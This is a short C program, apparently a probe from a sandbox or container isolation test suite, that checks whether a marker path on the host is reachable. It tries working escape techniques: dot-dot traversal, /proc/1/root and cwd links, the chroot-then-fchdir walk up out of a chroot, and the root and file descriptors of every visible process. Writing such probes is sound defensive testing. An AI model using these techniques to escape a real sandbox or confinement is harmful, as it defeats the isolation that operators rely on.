// escape MARKER: ways out of the root, each looking for MARKER, a path of the host's that no zone has.
#include "attack.h"
#include <dirent.h>

static const char *marker;

static void look(const char *how, const char *prefix) {
  char path[4096];
  snprintf(path, sizeof path, "%s%s", prefix, marker);
  TRY(how, access(path, F_OK));
}

int main(int argc, char **argv) {
  marker = argc > 1 ? argv[1] : "/no-marker";
  look("root", "");
  look("dots", "/../../../../../../../..");
  look("root of pid 1", "/proc/1/root");
  look("cwd of pid 1", "/proc/1/cwd/../../../../../..");
  look("root of self", "/proc/self/root/../../..");
  // A process with an open directory chroots below it and walks up: out of a mere chroot.
  fflush(stdout);
  if (fork() == 0) {
    mkdir("/tmp/below", 0700);
    int top = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/below") == 0 && fchdir(top) == 0) {
      for (int i = 0; i < 64; i++)
        if (chdir("..") < 0) break;
      if (chroot(".") < 0) {}
      look("chroot and up", "");
    } else {
      puts("chroot and up: refused before");
    }
    fflush(stdout);
    _exit(0);
  }
  wait(NULL);
  // Any process that can be seen, whatever its place.
  DIR *list = opendir("/proc");
  for (struct dirent *entry; (entry = readdir(list));) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    char prefix[300], name[340];
    for (int fd = 0; fd < 40; fd++) {
      snprintf(prefix, sizeof prefix, "/proc/%s/fd/%d/../../../../../..", entry->d_name, fd);
      char path[4096];
      snprintf(path, sizeof path, "%s%s", prefix, marker);
      if (access(path, F_OK) == 0) printf("descriptor %d of %s: DONE\n", fd, entry->d_name);
    }
    snprintf(prefix, sizeof prefix, "/proc/%s/root", entry->d_name);
    snprintf(name, sizeof name, "root of %s", entry->d_name);
    look(name, prefix);
  }
  return 0;
}
